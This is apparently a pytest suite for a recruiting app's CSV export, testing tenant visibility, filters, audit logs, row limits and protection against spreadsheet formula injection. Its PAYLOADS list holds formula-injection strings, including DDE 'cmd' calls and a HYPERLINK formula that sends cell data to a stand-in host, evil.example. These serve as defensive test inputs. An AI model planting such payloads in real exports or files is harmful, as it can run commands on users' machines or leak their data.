"""Lists as sheets: who may see whom, nothing left out, and no cell that a program for sheets would run."""

import csv
import io
import unicodedata
import uuid

import pytest
import sqlalchemy as sa
from hypothesis import given
from hypothesis import strategies as st

from app.applications.commands import apply
from app.applications.models import Application
from app.applications.routes import board
from app.audit.models import AuditEntry
from app.candidates.commands import register
from app.candidates.routes import people
from app.kernel import clock
from app.kernel.actor import SYSTEM
from app.postings.models import Posting, Stage
from app.web import sheets
from tenants.db import db

PAYLOADS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example?"&A1,"Open")',
    " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)", "'=1+1", "\N{MINUS SIGN}1+1",
    '"=1+1', "Cara;=1+1", 'Cara;"=1+1', "-2+3+cmd|' /C calc'!D2", "Zürich, =1", "Äsha कुलकर्णी",
)  # fmt: skip
RAW = ("\t=1+1", "\r=1+1", "\n=1+1", "Cara\n=1+1", "Cara\r\n\t+1", "Cara\t@SUM(A1)", "\t", ";\t\n'=")
FIELDS = ("name", "headline", "place", "email", "phone")
pieces = st.text(st.sampled_from("=+-@＝＠;,\t\r\n '\"\u200b\u00a0\ufeffab1|"), max_size=12)
words = pieces | st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=20)


def read(answer):
    """(head, rows) as a program reads them, by the file's own marks."""
    assert (answer.status_code, answer.mimetype) == (200, "text/csv")
    assert answer.data.startswith(b"\xef\xbb\xbf")
    head, *rows = csv.reader(io.StringIO(answer.data.decode("utf-8-sig"), newline=""), strict=True)
    return head, rows


def runs(cell):
    """What of it a program for sheets may take for a formula: seen through blanks, and signs of another width."""
    seen = next((sign for sign in cell if unicodedata.category(sign) not in {"Zs", "Zl", "Zp", "Cc", "Cf"}), "")
    return unicodedata.normalize("NFKC", seen)[:1] in {"=", "+", "-", "@", "\N{MINUS SIGN}"}


def is_unsafe(cell):
    return runs(cell) or cell.startswith(("\t", "\r", "\n"))


def everywhere(text):
    """Each cell as it is cut by commas, and by what other countries cut by."""
    return [
        cell for sign in ",;\t" for row in csv.reader(io.StringIO(text, newline=""), delimiter=sign) for cell in row
    ]


def written(rows):
    return b"".join(sheets._written(rows)).decode("utf-8-sig")


@given(st.lists(st.lists(words, min_size=3, max_size=3), min_size=1, max_size=4))
def test_s68_no_cell_begins_as_a_formula_and_every_word_comes_back(rows):
    text = written(rows)

    back = list(csv.reader(io.StringIO(text, newline=""), strict=True))

    assert [cell for row in back for cell in row if is_unsafe(cell)] == []
    assert [[sheets.as_written(cell) for cell in row] for row in back] == rows


@pytest.mark.parametrize("payload", PAYLOADS + RAW)
def test_s68_a_payload_is_words_wherever_sheets_are_cut(payload):
    text = written([["Cara", payload], [payload, payload]])

    assert [cell for cell in everywhere(text) if runs(cell)] == []


def test_s68_payloads_in_every_column_of_every_sheet_are_words(alpha, job, in_tenant, browser):
    with in_tenant(alpha):
        db.session.get_one(Stage, job.stages[0]).name = "=Stage"
        posting = db.session.get_one(Posting, job.id)
        for payload in PAYLOADS:
            person = register(name="Somebody")
            for field in FIELDS:
                setattr(person, field, payload)
            apply(posting, person, resume=None, source="careers", by=SYSTEM)
    rita, written_everywhere = browser("rita"), sorted([payload] * 5 for payload in PAYLOADS)

    persons, applications = read(rita.post("/candidates/sheet"))[1], read(rita.post(f"/jobs/{job.id}/sheet"))[1]

    assert [cell for row in persons + applications for cell in row if is_unsafe(cell)] == []
    for rows in (persons, applications):
        assert sorted([sheets.as_written(cell) for cell in row[:5]] for row in rows) == written_everywhere
    assert {row[5] for row in applications} == {"'=Stage"}
    assert read(browser("rex").post("/candidates/sheet"))[1] == []


def test_a_sheet_has_who_the_list_has_for_each_member(job, applied, alpha, beta, cast, in_tenant, browser):
    applied("Asha Kulkarni", "Ben Ode")
    with in_tenant(alpha):
        register(name="Noor Elsewhere", email="noor@example.org")
    with in_tenant(beta):
        register(name="Bea Beta")

    seen = {
        who: sorted(row[0] for row in read(browser(who).post("/candidates/sheet"))[1])
        for who in ("rita", "hugo", "rex")
    }

    assert seen == {
        "rita": ["Asha Kulkarni", "Ben Ode", "Noor Elsewhere"], "hugo": ["Asha Kulkarni", "Ben Ode"], "rex": ["Bea Beta"],
    }  # fmt: skip
    at_the_job = {who: browser(who).post(f"/jobs/{job.id}/sheet").status_code for who in ("rita", "hugo", "ivy", "rex")}
    assert at_the_job == {"rita": 200, "hugo": 200, "ivy": 404, "rex": 404}
    assert browser("ivy").post("/candidates/sheet").status_code == 404


def test_a_sheet_has_what_the_filter_leaves(job, applied, alpha, in_tenant, browser):
    asha, _ben = applied("Asha Kulkarni", "Ben Ode")
    with in_tenant(alpha):
        db.session.get_one(Application, asha).next_thing = "invited"
    rita = browser("rita")

    head, (row,) = read(rita.post(f"/jobs/{job.id}/sheet", data={"thing": "invited"}))
    _, (found,) = read(rita.post("/candidates/sheet", data={"q": "kulk"}))
    with in_tenant(alpha):
        register(name="Cora, who applied nowhere")
    of_the_job = read(rita.post("/candidates/sheet", data={"job": str(job.id)}))[1]
    of_another = rita.post("/candidates/sheet", data={"job": str(uuid.uuid4())}).status_code
    in_hindi, _ = read(rita.post("/candidates/sheet", headers={"Accept-Language": "hi"}))

    assert head[:9] == [
        "Candidate", "Now at", "Place", "E-mail", "Phone", "Stage", "State", "Next", "In this stage since",
    ]  # fmt: skip
    assert row[:8] == ["Asha Kulkarni", "", "", "asha@example.org", "", "Applied", "Active", "Invited, not started"]
    assert row[11] == "Careers page"
    assert (found[0], found[3], found[5]) == ("Asha Kulkarni", "asha@example.org", clock.today().isoformat())
    assert (sorted(row[0] for row in of_the_job), of_another) == (["Asha Kulkarni", "Ben Ode"], 404)
    assert in_hindi[4] == "फ़ोन"


def test_the_page_offers_it_with_its_filter_and_the_log_says_who_took_it(job, applied, alpha, in_tenant, browser):
    applied("Asha Kulkarni")
    rita = browser("rita")
    offered = rita.get("/candidates?q=asha").text, rita.get(f"/jobs/{job.id}/list?q=asha&state=all").text

    answer = rita.post("/candidates/sheet", data={"q": "asha"})
    rita.post(f"/jobs/{job.id}/sheet", data={"q": "nobody"})

    for page, address in zip(offered, ("/candidates/sheet", f"/jobs/{job.id}/sheet"), strict=True):
        assert f'<form method="post" action="{address}">' in page
        assert '<input type="hidden" name="q" value="asha">' in page
    assert answer.headers["Content-Disposition"] == f'attachment; filename="candidates-{clock.today()}.csv"'
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    with in_tenant(alpha):
        taken = sa.select(AuditEntry).where(AuditEntry.action.like("%.download")).order_by(AuditEntry.number)
        assert [(one.actor_name, one.action, one.target_id, one.data) for one in db.session.scalars(taken)] == [
            ("Rita", "candidates.download", "list", {"rows": 1}),
            ("Rita", "applications.download", str(job.id), {"rows": 0}),
        ]


def test_more_than_a_sheet_holds_is_said_and_not_cut(job, applied, browser, monkeypatch):
    applied("Asha Kulkarni", "Ben Ode")
    for module in (people, board, sheets):
        monkeypatch.setattr(module, "MOST_ROWS", 1)

    answers = [browser("rita").post(address) for address in ("/candidates/sheet", f"/jobs/{job.id}/sheet")]

    assert [answer.status_code for answer in answers] == [409, 409]
    assert all("Choose fewer by a filter" in answer.text for answer in answers)
